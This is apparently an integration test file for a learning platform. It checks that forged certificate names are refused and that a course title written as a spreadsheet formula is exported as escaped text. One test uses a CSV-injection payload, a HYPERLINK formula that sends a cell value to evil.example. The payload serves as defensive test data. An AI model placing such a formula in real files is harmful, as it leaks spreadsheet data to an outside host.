"""Issue 12, section 4: a forged certificate name and a formula cell are refused or harmless."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from sqlalchemy import func, select

from lms.kit.db import make_engine
from lms.progress.db import enrolments

pytestmark = pytest.mark.integration
FORGED = "Ada Lovelace (forged)"


def enrolment_count(world) -> int:
    with make_engine(world.settings.database_url).connect() as conn:
        return conn.scalar(select(func.count()).select_from(enrolments))


def test_a_learner_sent_name_is_refused_and_the_certificate_prints_the_token_name(world):
    course_id = str(uuid.uuid4())
    world.publish_course(course_id, 1, [{"id": "m1", "lessons": ["l1"]}])
    forged = world.client.post(
        "/api/v1/enrolments",
        json={"course_id": course_id, "learner_name": FORGED},
        headers=world.token("ada", "learner"),
    )
    assert (forged.status_code, forged.mimetype) == (422, "application/problem+json")
    assert "learner_name" in str(forged.get_json()["errors"])
    assert enrolment_count(world) == 0

    enrolment = world.enrol("ada", course_id)
    done = world.complete("ada", enrolment["id"], "l1")
    certificate = world.client.get(f"/api/v1/certificates/{done['certificate_code']}").get_json()
    assert certificate["name"] == "Ada"  # the token's name claim
    assert "forged" not in str(certificate)


def test_an_assigned_learner_is_named_by_id_never_by_the_request(world):
    course_id = str(uuid.uuid4())
    world.publish_course(course_id, 1, [{"id": "m1", "lessons": ["l1"]}])
    hr = world.token("hr1", "hr")
    forged = world.client.post(
        "/api/v1/enrolments",
        json={"course_id": course_id, "learner_id": "bo", "learner_name": FORGED},
        headers=hr,
    )
    assert forged.status_code == 422
    assigned = world.client.post(
        "/api/v1/enrolments", json={"course_id": course_id, "learner_id": "bo"}, headers=hr
    ).get_json()
    done = world.complete("bo", assigned["id"], "l1")
    certificate = world.client.get(f"/api/v1/certificates/{done['certificate_code']}").get_json()
    assert certificate["name"] == "bo"


def test_a_course_title_written_as_a_formula_is_exported_as_text(world):
    course_id = str(uuid.uuid4())
    title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    world.publish_course(course_id, 1, [{"id": "m1", "lessons": ["l1"]}], title=title)
    enrolment = world.enrol("cy", course_id)
    world.complete("cy", enrolment["id"], "l1")

    export = world.client.get("/api/v1/completions.csv", headers=world.token("hr1", "hr"))
    (record,) = [
        r for r in csv.DictReader(io.StringIO(export.get_data(as_text=True))) if r["learner_id"] == "cy"
    ]
    assert record["course_title"] == "'" + title
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in record.values())
